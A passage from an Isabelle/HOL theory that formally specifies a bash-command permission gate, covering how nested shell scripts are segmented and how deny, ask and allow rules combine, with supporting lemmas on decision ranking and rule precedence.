          forms = raw_words # (if length inner_words \<noteq> length raw_words then [inner_words] else []);
          d2 = foldl (\<lambda>d ws. combine_gate_decisions d (escalate E pol (join [32] ws))) d1 forms;
          d3 = (case shell_dash_c_script (map LiteralWord inner_words) of
                  LiteralScript i \<Rightarrow> combine_gate_decisions d2 (inner (inner_words ! i))
                | NotInline \<Rightarrow> d2
                | _ \<Rightarrow> combine_gate_decisions d2 (Some AskFailClosed))
      in case env_split_string_script inner_words of
           Some script \<Rightarrow> combine_gate_decisions d3 (inner script)
         | None \<Rightarrow> d3)"

definition evaluate_segments ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> (rstr \<Rightarrow> GateDecision option) \<Rightarrow> rstr \<Rightarrow> GateDecision option" where
  "evaluate_segments E pol inner cmd =
     (case all_commands_from_script (pe_parse E) cmd of
        None \<Rightarrow> Some AskFailClosed
      | Some segments \<Rightarrow>
          foldl (\<lambda>d c. combine_gate_decisions d (evaluate_command_words E pol inner (pc_words c))) None segments)"

primrec evaluate_bash_command_segments ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> nat \<Rightarrow> rstr \<Rightarrow> GateDecision option" where
  "evaluate_bash_command_segments E pol 0 = evaluate_segments E pol (\<lambda>_. Some AskFailClosed)"
| "evaluate_bash_command_segments E pol (Suc depth) =
     evaluate_segments E pol (evaluate_bash_command_segments E pol depth)"

definition evaluate_bash_command_gate :: "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> rstr \<Rightarrow> GateDecision option" where
  "evaluate_bash_command_gate E pol cmd =
     (if \<not> has_bash_command_restrictions pol then None
      else evaluate_bash_command_segments E pol MAX_INLINE_SHELL_DEPTH cmd)"

definition evaluate_bash_command_policy :: "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> rstr \<Rightarrow> Decision option" where
  "evaluate_bash_command_policy E pol cmd = map_option into_decision (evaluate_bash_command_gate E pol cmd)"

section \<open>Combining\<close>

text \<open>
  Both kinds of decision are merged the same way: by a rank, the left one winning a tie. The laws below
  are all the fold over forms, commands and nested scripts needs.
\<close>

locale ranked_combine =
  fixes rank :: "'d \<Rightarrow> nat" and top :: nat and combine :: "'d option \<Rightarrow> 'd option \<Rightarrow> 'd option"
  assumes rank_le_top: "rank x \<le> top"
    and combine_None: "combine None b = b" "combine a None = a"
    and combine_Some: "combine (Some x) (Some y) = Some (if rank y \<le> rank x then x else y)"
begin

definition is_top :: "'d option \<Rightarrow> bool" where
  "is_top d \<longleftrightarrow> (\<exists>x. d = Some x \<and> rank x = top)"

lemma combine_eq_None: "combine a b = None \<longleftrightarrow> a = None \<and> b = None"
  by (cases a; cases b) (simp_all add: combine_None combine_Some)

lemma combine_is_top: "is_top (combine a b) \<longleftrightarrow> is_top a \<or> is_top b"
  using rank_le_top by (cases a; cases b) (auto simp: is_top_def combine_None combine_Some dest: le_antisym)

lemma combine_assoc: "combine (combine a b) c = combine a (combine b c)"
  by (cases a; cases b; cases c) (auto simp: combine_None combine_Some)

lemma combine_top_left: "is_top a \<Longrightarrow> combine a b = a"
  using rank_le_top by (cases a; cases b) (auto simp: is_top_def combine_None combine_Some)

lemma fold_None: "foldl (\<lambda>d x. combine d (f x)) d xs = None \<longleftrightarrow> d = None \<and> (\<forall>x\<in>set xs. f x = None)"
  by (induction xs arbitrary: d) (auto simp: combine_eq_None)

lemma fold_is_top: "is_top (foldl (\<lambda>d x. combine d (f x)) d xs) \<longleftrightarrow> is_top d \<or> (\<exists>x\<in>set xs. is_top (f x))"
  by (induction xs arbitrary: d) (auto simp: combine_is_top)

end

interpretation gate: ranked_combine gate_rank 3 combine_gate_decisions
  by unfold_locales (auto simp: gate_rank_def combine_gate_decisions_def split: GateDecision.splits option.splits)

interpretation decision: ranked_combine decision_rank 3 combine_decisions
  by unfold_locales (auto simp: decision_rank_def combine_decisions_def split: Decision.splits option.splits)

definition is_gate_reject :: "GateDecision option \<Rightarrow> bool" where
  "is_gate_reject d \<longleftrightarrow> (\<exists>r. d = Some (GateReject r))"

lemma gate_is_top: "gate.is_top d \<longleftrightarrow> is_gate_reject d"
  by (cases d) (auto simp: gate.is_top_def is_gate_reject_def gate_rank_def split: GateDecision.splits)

lemmas gate_None [simp] = gate.combine_eq_None gate.combine_None
lemmas gate_reject [simp] = gate.combine_is_top [unfolded gate_is_top]
lemmas gate_fold_reject = gate.fold_is_top [unfolded gate_is_top]

section \<open>Precedence\<close>

text \<open>The rules that apply to an access, in their order.\<close>

definition applicable :: "'pat policy_env \<Rightarrow> PermissionConfig \<Rightarrow> AccessKind \<Rightarrow> rstr option \<Rightarrow> PermissionRule list" where
  "applicable E config access cwd =
     filter (\<lambda>r. rule_applies E access cwd r (compile_matcher E r)) (pc_rules config)"

lemma scan_rules_spec:
  "scan_rules E access cwd (map (\<lambda>r. (r, f r)) rs) ask allow =
     (case find (\<lambda>r. pr_action r = DenyRule) (filter (\<lambda>r. rule_applies E access cwd r (f r)) rs) of
        Some r \<Rightarrow> Inl (deny_reason r)
      | None \<Rightarrow> Inr (ask \<or> (\<exists>r\<in>set rs. rule_applies E access cwd r (f r) \<and> pr_action r = AskRule),
                     allow \<or> (\<exists>r\<in>set rs. rule_applies E access cwd r (f r) \<and> pr_action r = AllowRule)))"
  by (induction rs arbitrary: ask allow) (auto split: RuleAction.splits option.splits)

lemma zip_map_self: "zip xs (map f xs) = map (\<lambda>x. (x, f x)) xs"
  by (induction xs) auto

lemma policy_fields [simp]:
  "cp_config (CompiledPolicy_new E config) = config"
  "cp_matchers (CompiledPolicy_new E config) = map (compile_matcher E) (pc_rules config)"
  "cp_catchall (CompiledPolicy_new E config) = map (rule_is_catchall E) (pc_rules config)"
  "has_bash_allow_rules (CompiledPolicy_new E config) \<longleftrightarrow>
     (\<exists>r\<in>set (pc_rules config). pr_action r = AllowRule \<and> governs_bash r)"
  "has_bash_command_restrictions (CompiledPolicy_new E config) \<longleftrightarrow>
     (\<exists>r\<in>set (pc_rules config). restricts r \<and> governs_bash r)"
  by (simp_all add: CompiledPolicy_new_def list_ex_iff)

lemma words_allowed_iff:
  "bash_words_allowed E (CompiledPolicy_new E config) scope ws \<longleftrightarrow>
     ws \<noteq> [] \<and> \<not> (scope = NarrowOnly \<and> head_is_exec_vehicle ws) \<and>
     (\<exists>r\<in>set (pc_rules config). \<not> (scope = NarrowOnly \<and> rule_is_catchall E r) \<and> pr_action r = AllowRule \<and>
        governs_bash r \<and> bash_allow_pattern_matches E (join [32] ws) r (compile_matcher E r))"
proof -
  have "zip (zip rs (map f rs)) (map g rs) = map (\<lambda>r. ((r, f r), g r)) rs"
    for rs :: "PermissionRule list" and f :: "PermissionRule \<Rightarrow> 'a option" and g :: "PermissionRule \<Rightarrow> bool"
    by (induction rs) auto
  then show ?thesis by (auto simp: bash_words_allowed_def list_ex_iff)
qed

lemma chain_needs_rule:
  assumes "bash_chain_fully_allowed E (CompiledPolicy_new E config) scope depth cmd"
  shows "has_bash_allow_rules (CompiledPolicy_new E config)"
proof -
  from assms obtain inner where "script_allowed E (CompiledPolicy_new E config) scope inner cmd"
    by (cases depth) auto
  then obtain segs :: "PlainCommand list" where "segs \<noteq> []" "\<forall>c\<in>set segs. segment_allowed E (CompiledPolicy_new E config) scope inner (pc_words c)"
    by (auto simp: script_allowed_def list_all_iff split: option.splits)
  then have "segment_allowed E (CompiledPolicy_new E config) scope inner (pc_words (hd segs))" by simp
  then show ?thesis
    by (auto simp: segment_allowed_def words_allowed_iff Let_def)
qed

lemma evaluate_lexical_spec:
  "evaluate_lexical_with_cwd E (CompiledPolicy_new E config) access cwd =
     (case find (\<lambda>r. pr_action r = DenyRule) (applicable E config access cwd) of
        Some r \<Rightarrow> Some (Reject (deny_reason r))
      | None \<Rightarrow>
          if \<exists>r\<in>set (applicable E config access cwd). pr_action r = AskRule then Some Ask
          else case access of
                 BashAccess cmd \<Rightarrow>
                   if bash_chain_fully_allowed E (CompiledPolicy_new E config) AnyScope MAX_INLINE_SHELL_DEPTH cmd
                   then Some Allow else None
               | _ \<Rightarrow> if \<exists>r\<in>set (applicable E config access cwd). pr_action r = AllowRule then Some Allow else None)"
  using chain_needs_rule [of E config AnyScope MAX_INLINE_SHELL_DEPTH]
  by (auto simp: evaluate_lexical_with_cwd_def applicable_def zip_map_self scan_rules_spec
      split: option.splits AccessKind.splits)

text \<open>What a decision amounts to, less the wording of a refusal.\<close>

definition verdict :: "Decision option \<Rightarrow> Decision option" where
  "verdict d = map_option (\<lambda>x. case x of Reject _ \<Rightarrow> Reject [] | y \<Rightarrow> y) d"

lemma find_some_iff_ex: "(find P xs = None) = (\<not> (\<exists>x\<in>set xs. P x))"
  by (auto simp: find_None_iff)

lemma words_allowed_set:
  assumes "set (pc_rules c1) = set (pc_rules c2)"
  shows "bash_words_allowed E (CompiledPolicy_new E c1) = bash_words_allowed E (CompiledPolicy_new E c2)"
  using assms by (intro ext) (simp add: words_allowed_iff)

lemma script_allowed_set:
  assumes "set (pc_rules c1) = set (pc_rules c2)"
  shows "script_allowed E (CompiledPolicy_new E c1) scope inner cmd =
    script_allowed E (CompiledPolicy_new E c2) scope inner cmd"
  unfolding script_allowed_def segment_allowed_def words_allowed_set [OF assms] ..

lemma chain_allowed_set:
  assumes "set (pc_rules c1) = set (pc_rules c2)"
  shows "bash_chain_fully_allowed E (CompiledPolicy_new E c1) scope depth =
    bash_chain_fully_allowed E (CompiledPolicy_new E c2) scope depth"
  by (induction depth) (auto intro!: ext simp: script_allowed_set [OF assms])

lemma evaluate_lexical_set:
  assumes "set (pc_rules c1) = set (pc_rules c2)"
  shows "verdict (evaluate_lexical_with_cwd E (CompiledPolicy_new E c1) access cwd) =
    verdict (evaluate_lexical_with_cwd E (CompiledPolicy_new E c2) access cwd)"
proof -
  have app: "set (applicable E c1 access cwd) = set (applicable E c2 access cwd)"
    using assms by (auto simp: applicable_def)
  show ?thesis
  proof (cases "\<exists>r\<in>set (applicable E c1 access cwd). pr_action r = DenyRule")
    case True
    then have "find (\<lambda>r. pr_action r = DenyRule) (applicable E c1 access cwd) \<noteq> None"
      "find (\<lambda>r. pr_action r = DenyRule) (applicable E c2 access cwd) \<noteq> None"
      unfolding find_some_iff_ex app by simp_all
    then show ?thesis by (auto simp: evaluate_lexical_spec verdict_def)
  next
    case False
    then have "find (\<lambda>r. pr_action r = DenyRule) (applicable E c1 access cwd) = None"
      "find (\<lambda>r. pr_action r = DenyRule) (applicable E c2 access cwd) = None"
      using app by (simp_all add: find_some_iff_ex)
    then show ?thesis unfolding evaluate_lexical_spec app chain_allowed_set [OF assms] by simp
  qed
qed

section \<open>The gate\<close>

lemma evaluate_bash: "evaluate E pol (BashAccess cmd) = evaluate_lexical_with_cwd E pol (BashAccess cmd) None"
  by (simp add: evaluate_def evaluate_with_cwd_def evaluate_with_cwd_details_def native_file_path_def Let_def)

lemma escalate_spec:
  "escalate E (CompiledPolicy_new E config) seg = None \<longleftrightarrow>
     (\<forall>r\<in>set (applicable E config (BashAccess seg) None). \<not> restricts r)"
  "is_gate_reject (escalate E (CompiledPolicy_new E config) seg) \<longleftrightarrow>
     (\<exists>r\<in>set (applicable E config (BashAccess seg) None). pr_action r = DenyRule)"
proof -
  let ?app = "applicable E config (BashAccess seg) None"
  have "(find (\<lambda>r. pr_action r = DenyRule) ?app = None) = (\<not> (\<exists>r\<in>set ?app. pr_action r = DenyRule))"
    by (rule find_some_iff_ex)
  then show "escalate E (CompiledPolicy_new E config) seg = None \<longleftrightarrow> (\<forall>r\<in>set ?app. \<not> restricts r)"
    "is_gate_reject (escalate E (CompiledPolicy_new E config) seg) \<longleftrightarrow> (\<exists>r\<in>set ?app. pr_action r = DenyRule)"
    by (auto simp: escalate_def evaluate_bash evaluate_lexical_spec restricts_def is_gate_reject_def
        split: option.splits if_splits)
qed

end
